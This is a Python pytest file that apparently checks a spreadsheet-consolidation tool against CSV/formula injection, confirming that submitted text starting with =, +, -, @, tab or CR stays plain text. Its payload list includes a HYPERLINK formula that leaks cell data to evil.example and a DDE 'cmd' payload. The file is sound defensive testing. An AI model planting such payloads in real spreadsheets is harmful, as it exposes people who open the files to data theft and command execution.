"""Issue #8, formula injection: submitter text starting with = + - @ tab or CR stays text everywhere.

A workbook whose text cells (and one sheet name) start with each of those characters goes
through a real consolidation; then the master (:mod:`sheetsync.render_master`), the feedback
workbook (:func:`sheetsync.render_feedback.write_feedback`) and the Google Sheet the master is
published to are opened and checked cell by cell: no cell that carries submitted text is a
formula (openpyxl's data_type is ``'s'``, never ``'f'``), the text is exactly what
python-calamine reads from the submission (raw strings, never evaluated), and text Excel would
take for a formula once someone edits the cell carries Excel's quote prefix.
"""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import python_calamine

from sheetsync.consolidate import Consolidation, consolidate
from sheetsync.drive import Drive
from sheetsync.normalize import clean_text
from sheetsync.profile import load_profile
from sheetsync.render_feedback import write_feedback
from tests.hostile import make_hostile as hostile

try:  # the Google Sheets side and its fake API (the test is skipped without them)
    from tests.fake_sheets_api import fake_sheets_fixture  # noqa: F401  (pytest fixture)
except ImportError:  # pragma: no cover
    pass

PROFILE = load_profile("guangzhou-2013")
MARK = "INJ"  # every payload carries it, so a cell holding submitted text can be told apart
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?d="&A2,"INJ点这里")',
    "+": "+INJ+1+cmd|' /C calc'!A0",
    "-": "-INJ-2+3",
    "@": "@SUM(1+1)*INJ",
    "\t": "\t=INJ1+1",
    "\r": "\r=INJ2+2",
}
STARTS = tuple(PAYLOADS)
SHEET_NAMES = ("=INJ工作表", "\t=INJ表", "\r=INJ表")  # Excel allows a tab or CR in a sheet name
HEADERS = [*hostile.ENTERPRISE_HEADERS, "所属园区", "负责人(正职)姓名", "联系人", "备注"]


def _rows() -> list[list[Any]]:
    """One accepted row per payload, each payload in every text column; one row rejected for its
    credit code (itself a payload), so that submitted text reaches the problem lists too."""
    codes = [
        hostile.GOOD,
        hostile.GOOD2,
        hostile.GOOD3,
        "91110000710925462X",
        "91350200MA2YJ1XR9G",
        "91350503MA31DKY80A",
    ]
    rows: list[list[Any]] = [HEADERS]
    for code, payload in zip(codes, PAYLOADS.values(), strict=True):
        rows.append([code, payload, hostile.SUBMITTER, "C 制造业", "规模以上工业", "自愿", *[payload] * 4])
    rows.append(["=INJ坏代码", PAYLOADS["\t"], hostile.SUBMITTER, "C 制造业", "规模以上工业", "自愿"])
    return rows


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Consolidation, Path, Path]:
    root = tmp_path_factory.mktemp("injection")
    drive = Drive(root / "drive")
    folder = drive.submitter_folder(hostile.SUBMITTER)
    folder.mkdir(parents=True)
    extra = {name: [["说明", PAYLOADS["="]]] for name in SHEET_NAMES}
    submitted = hostile.write_book(folder / "越秀区_2014-11.xlsx", {"企业名录": _rows(), **extra})
    report = consolidate(drive, PROFILE, as_of=date(2014, 11, 30), files=[(hostile.SUBMITTER, submitted)])
    feedback = write_feedback(
        report.files[0].result,
        submitted,
        root / "feedback",
        submitter=hostile.SUBMITTER,
        processed_at=datetime(2014, 11, 30, 23, 0),
    )
    return report, submitted, feedback


def _submitted_texts(path: Path) -> set[str]:
    """The payloads exactly as python-calamine reads them from the submission."""
    book = python_calamine.CalamineWorkbook.from_path(str(path))
    texts = {
        cell
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
        if isinstance(cell, str) and MARK in cell
    }
    book.close()
    return texts | set(SHEET_NAMES)


def _cells_with_mark(path: Path) -> list[tuple[str, str, Any, str, bool]]:
    """(sheet, cell, value, data_type, quote_prefix) of every cell holding submitted text."""
    book = openpyxl.load_workbook(path)  # formulas stay formulas: data_type 'f'
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and MARK in cell.value:
                    found.append((sheet.title, cell.coordinate, cell.value, cell.data_type, cell.quotePrefix))
    return found


def _calamine_values(path: Path) -> dict[tuple[str, str], Any]:
    book = python_calamine.CalamineWorkbook.from_path(str(path))
    values = {}
    for name in book.sheet_names:
        sheet = book.get_sheet_by_name(name)
        top, left = sheet.start or (0, 0)
        for r, row in enumerate(sheet.to_python()):
            for c, value in enumerate(row):
                if isinstance(value, str) and MARK in value:
                    values[(name, openpyxl.utils.get_column_letter(left + c + 1) + str(top + r + 1))] = value
    book.close()
    return values


def test_the_submission_really_holds_every_payload(run: tuple[Consolidation, Path, Path]) -> None:
    _, submitted, _ = run
    texts = _submitted_texts(submitted)
    assert set(PAYLOADS.values()) <= texts  # calamine hands over the raw strings, tab and CR included


@pytest.mark.parametrize("which", ["master", "feedback"])
def test_submitted_text_is_never_a_formula(run: tuple[Consolidation, Path, Path], which: str) -> None:
    report, _, feedback = run
    path = report.master_path if which == "master" else feedback
    cells = _cells_with_mark(path)
    assert cells, f"no submitted text in the {which}"
    assert [c for c in cells if c[3] != "s"] == []
    book = openpyxl.load_workbook(path)
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and MARK in str(cell.value)
    ]
    assert formulas == []


@pytest.mark.parametrize("which", ["master", "feedback"])
def test_formula_starts_carry_the_quote_prefix(run: tuple[Consolidation, Path, Path], which: str) -> None:
    report, _, feedback = run
    path = report.master_path if which == "master" else feedback
    starts = "=+-@" if which == "master" else "=+-@\t\r"
    bare = [c for c in _cells_with_mark(path) if c[2][:1] in starts and not c[4]]
    assert bare == []


def test_master_protects_tab_and_cr_starts_too(run: tuple[Consolidation, Path, Path]) -> None:
    """Register cells are cleaned (a leading tab or CR goes, what follows is then quoted), but
    what is shown as it came, such as a sheet name in the problem list, may start with them."""
    report, _, _ = run
    bare = [c for c in _cells_with_mark(report.master_path) if c[2][:1] in "\t\r" and not c[4]]
    assert bare == []


def test_text_survives_exactly(run: tuple[Consolidation, Path, Path]) -> None:
    report, submitted, feedback = run
    sent = _submitted_texts(submitted)
    cleaned = {clean_text(text) for text in sent}
    # the feedback's copy of each sheet holds the raw cells: the same strings, tab and CR included
    in_feedback = set(_calamine_values(feedback).values())
    assert sent - set(SHEET_NAMES) <= in_feedback
    # the master's registers hold the cleaned values (clean_text trims and folds white space)
    in_master = set(_calamine_values(report.master_path).values())
    register_values = {clean_text(PAYLOADS[s]) for s in STARTS}
    assert register_values <= in_master
    assert in_master <= sent | cleaned | _mentions(in_master, sent | cleaned)


def _mentions(found: set[str], known: set[str]) -> set[str]:
    """Messages and summaries that quote submitted text inside longer Chinese text."""
    return {text for text in found if any(k in text for k in known if k) and text not in known}


def test_google_sheet_gets_the_text_as_text(
    run: tuple[Consolidation, Path, Path], request: pytest.FixtureRequest
) -> None:
    publish = pytest.importorskip("sheetsync.gsheets.publish")
    fake_api = pytest.importorskip("tests.fake_sheets_api")
    fake = request.getfixturevalue("fake_sheets")
    from google.oauth2.credentials import Credentials

    from sheetsync.gsheets.client import connect

    key = "1InjectionCheck0123456789abcdefghijklmnopq"
    fake.add_spreadsheet(key, "总台账", {"Sheet1": []})
    google = connect(Credentials(token=fake_api.TOKEN), endpoint=fake.url)
    report, _, _ = run
    publish.publish_register(google, key, report.master_path, report.master_path.parent / "state.json")
    cells = [v for sheet in fake.spreadsheets[key].sheets for v in sheet.cells.values()]
    assert not any(isinstance(v, fake_api.Formula) for v in cells)
    published = {v for v in cells if isinstance(v, str) and MARK in v}
    assert {clean_text(PAYLOADS[s]) for s in STARTS} <= published
    assert all(entry.body["valueInputOption"] == "RAW" for entry in fake.value_writes())
